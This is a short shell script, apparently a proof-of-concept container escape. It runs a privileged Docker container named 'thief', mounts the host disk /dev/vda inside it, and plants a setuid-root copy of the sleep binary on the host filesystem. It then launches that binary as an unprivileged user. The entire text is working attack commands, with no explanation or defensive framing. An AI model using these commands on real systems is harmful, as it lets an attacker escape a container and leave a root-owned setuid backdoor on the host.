docker run -d --name thief --privileged alpine sleep 3600
docker exec thief sh -c 'mkdir /disk && mount -t ext4 /dev/vda /disk
  cd /disk && cp usr/bin/sleep usr/local/bin/rootsleep && chmod 4755 usr/local/bin/rootsleep'
setpriv --reuid 1000 --regid 1000 --clear-groups setsid -f rootsleep 3600 > /dev/null 2>&1 < /dev/null
